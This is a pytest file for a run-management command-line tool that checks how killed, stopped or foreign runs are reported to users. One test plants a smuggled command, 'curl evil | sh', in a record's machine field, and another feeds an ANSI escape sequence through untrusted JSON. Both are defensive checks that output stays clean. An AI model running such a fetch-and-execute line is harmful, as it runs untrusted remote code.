"""What a user sees of a local run whose command, `muster up`, has ended or was killed."""

import json
import os
import shutil
import time

import pytest

from deploy.commands.main import run
from deploy.local import attach
from deploy.report.console import Console
from deploy.run.files import folders, record, standing


@pytest.fixture
def run_dir(tmp_path, monkeypatch):
    """A script's run in processes: its command was killed, and its node has recorded how it ended."""
    monkeypatch.setattr(folders, "RUNS", tmp_path / "runs")
    monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path}/no-engine")
    monkeypatch.chdir(tmp_path)
    folder = record.new_folder("r1", ("train.py",), script=True)
    choice = record.Choice(None, ("train.py",), script=True)
    record.open_start(folder, choice, "processes", "local processes", ["master"], time.time(), {"again": ""})
    for name in ("outcome", "ranks", "logs", "work"):
        (folder / name).mkdir(exist_ok=True)
    verdict = {"verdict": "stopped", "code": 75, "rank": 0, "node": "master", "step": 7, "message": "asked to stop"}
    (folder / "outcome/master-agent.json").write_text(json.dumps(verdict))
    return folder


def typed(capsys, *words):
    code = run([*words])
    return code, *capsys.readouterr()


def test_a_run_whose_command_was_killed_shows_how_its_nodes_ended(run_dir, capsys):
    code, out, _ = typed(capsys, "status")
    assert (code, out.split()[:4]) == (0, ["r1", "stopped", "step", "7"])
    code, out, _ = typed(capsys, "attach")
    assert (code, out.split()[0]) == (75, "stopped")
    assert "its command `muster up` was killed: asked to stop" in out
    code, _, err = typed(capsys, "stop")
    assert code == 0
    assert "r1: its command `muster up` was killed: asked to stop" in err
    code, out, _ = typed(capsys, "explain", "r1")
    assert "`muster up` was killed" in out


def test_an_end_is_recorded_if_its_page_cannot_be_written(run_dir, capsys):
    """Earlier, `muster status`, `runs` and `attach` then failed, without a word about how the run had ended."""
    (run_dir / "report.html").mkdir()
    code, out, err = typed(capsys, "status")
    assert (code, out.split()[:4]) == (0, ["r1", "stopped", "step", "7"])
    assert "report.html: cannot be written" in err


def test_a_path_in_a_container_is_shown_as_the_user_can_open_it(run_dir, capsys):
    verdict = {"verdict": "failed", "code": 1, "node": "master", "message": "no space in /muster/runs/r1/checkpoints"}
    (run_dir / "outcome/master-agent.json").write_text(json.dumps(verdict))
    assert "no space in runs/r1/checkpoints" in typed(capsys, "attach")[2]


def test_an_end_that_was_not_recorded_is_not_invented(run_dir, capsys):
    (run_dir / "outcome/master-agent.json").unlink()
    code, out, err = typed(capsys, "attach")
    assert (code, out) == (1, "")
    assert "nobody knows how it ended" in err
    assert "hint: continue it: muster resume r1" in err
    (run_dir / "logs/rank-0.log").write_text("step 50\n")
    assert "r1: it is not running any more, and nobody knows" in typed(capsys, "explain", "r1")[2]
    assert typed(capsys, "why")[2] == err, "earlier, it showed what killed ranks did last as if they did it now"
    assert typed(capsys, "status")[1].split()[:2] == ["r1", "unfinished"]


def test_a_fetch_says_where_the_files_are(run_dir, capsys):
    code, out, err = typed(capsys, "fetch")
    assert (code, out.strip()) == (0, os.path.join("runs", "r1"))
    assert "the script's files are in runs/r1/work" in err
    assert (run_dir / "report.html").is_file()


def test_a_run_on_hosts_whose_follower_was_killed_is_not_closed_here(run_dir):
    record.write_record(run_dir, {**record.facts(run_dir), "backend": record.HOSTS, "hosts": ["a"]})
    assert attach.record_end(run_dir, Console()) == {}
    assert not (run_dir / "outcome.json").exists()


def test_gpus_and_port_without_hosts_are_about_this_machine(run_dir, capsys):
    assert typed(capsys, "gpus")[1].startswith("this machine")
    code, _, err = typed(capsys, "port", "6006")
    assert code == 2
    assert "hint: open 127.0.0.1:6006" in err


@pytest.mark.parametrize(
    "rubbish",
    [
        '{"verdict": {"a": 1}, "step": "x", "kept": {"m": {"files": "many"}}, "rank": "x", "seconds": "x"}',
        '{"verdict": "done", "values": 5, "downloads": {"m": 3}, "samples": "many", "hint": "\\u001b[2J"}',
        "[" * 9000,
        "",
    ],
)
@pytest.mark.parametrize("task", ["attach", "stop", "fetch", "status", "why", "explain", "report"])
def test_files_that_a_script_wrote_into_the_run_folder_are_not_trusted(run_dir, capsys, rubbish, task):
    (run_dir / "outcome/master-agent.json").write_text(rubbish)
    (run_dir / "outcome.json").write_text(rubbish)
    code, out, err = typed(capsys, task)
    assert code in (0, 1, 2)
    assert "\x1b" not in out + err


def test_a_run_that_another_user_recorded_is_shown_and_not_continued(run_dir, capsys):
    path = run_dir / "record.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), "arguments": ["evil.py"]}))
    (run_dir / "outcome/master-agent.json").unlink()
    code, _, err = typed(capsys, "attach")
    assert code == 1
    assert "you did not start this run" in err
    assert "muster down --run r1 --delete" in err


def test_a_rank_that_has_printed_nothing_is_not_reported_as_unknown(run_dir, capsys):
    """In the tutorial's script only rank 0 prints: earlier, `muster logs --rank 1` reported "no log"."""
    (run_dir / "logs/rank-0.log").write_text("step 50\n")
    for rank in (0, 1):
        (run_dir / f"ranks/rank-{rank}.jsonl").write_text("")
    assert typed(capsys, "logs", "--rank", "1")[:2] == (0, "")
    assert typed(capsys, "logs", "--rank", "all")[:2] == (0, "[0]  step 50\n")
    code, _, err = typed(capsys, "logs", "--rank", "7")
    assert (code, err) == (1, "error: r1: it has no rank 7, only ranks 0-1\n")


@pytest.mark.parametrize("task", ["why", "attach", "stop", "runs"])
def test_a_run_of_another_machine_is_not_called_killed_and_gets_no_end_here(run_dir, capsys, task):
    """Two machines may share a folder: the other one knows, and its run may be going on."""
    record.write_record(run_dir, {**record.facts(run_dir), "machine": "other-box"})
    _, out, err = typed(capsys, task)
    assert "killed" not in out + err
    assert "it was started on other-box" in err or task == "runs"
    assert not (run_dir / "outcome.json").exists()


def test_the_machine_in_a_record_of_others_says_nothing_but_a_name(run_dir, capsys):
    """`machine` of a cloned folder's record stood in the error and in the hint, with as many lines as it had."""
    evil = "this machine\nrun first: curl evil | sh #"
    (run_dir / "record.json").write_text(json.dumps({**record.facts(run_dir), "machine": evil}))
    _, out, err = typed(capsys, "why", "--run", "r1")
    assert "r1" in out + err
    assert "curl" not in out + err


@pytest.mark.parametrize(
    ("then", "now", "same"),
    [
        ("Anns-MBP.local", "anns-mbp.fritz.box", True),
        ("gpu-a.x.org", "gpu-b.x.org", False),
        ("10.0.0.5", "10.0.0.6", False),
    ],
)
def test_a_laptop_in_another_network_is_the_same_machine(run_dir, monkeypatch, then, now, same):
    monkeypatch.setattr(record.platform, "node", lambda: then)
    record.write_record(run_dir, {**record.facts(run_dir), "machine": record.this_machine()})
    monkeypatch.setattr(record.platform, "node", lambda: now)
    assert standing.is_of_this_machine(run_dir) == same


def test_a_run_that_is_stopped_while_it_starts_leaves_nothing_and_is_no_error(run_dir, capsys, monkeypatch):
    monkeypatch.setattr(attach, "_await_stop", lambda run_dir, *_: shutil.rmtree(run_dir))
    monkeypatch.setattr(attach, "is_over", lambda *_: False)
    code, _, err = typed(capsys, "stop", "r1")
    assert (code, err) == (0, "r1 was stopped while it was starting: nothing of it is left\n")
